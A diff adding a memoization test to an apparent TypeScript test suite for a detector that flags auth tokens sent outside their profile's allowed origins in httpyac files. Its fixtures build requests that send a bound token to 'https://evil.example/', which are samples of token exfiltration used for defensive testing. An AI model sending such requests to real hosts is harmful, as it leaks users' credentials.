@@ -38,6 +38,23 @@ describe('a token’s destination outside its profile’s origins', () => {
     });
   }
 
+  it('is found without mapping the same list of profiles again', () => {
+    let reads = 0;
+    const counted = new Proxy(bound, {
+      get: (target, name) => {
+        if (name === 'id') reads++;
+        return Reflect.get(target, name) as unknown;
+      },
+    });
+    const list = [counted];
+    const text = `GET https://evil.example/\n${use('bound')}`;
+    assert.equal(outsideOrigins(text, 'httpyac', list).length, 1);
+    const before = reads;
+    assert.equal(outsideOrigins(text, 'httpyac', list).length, 1);
+    assert.equal(reads, before);
+    assert.equal(outsideOrigins(text, 'httpyac', [free]).length, 0, 'another list is another map');
+  });
+
   it('is not marked where two profiles share the variable, or the profile cannot be used', () => {
     const text = `GET https://evil.example/\n${use('bound')}`;
     const same = usableProfile({ ...fields, id: 'bound', origins: ['https://api.example.com'] }, team('app'));
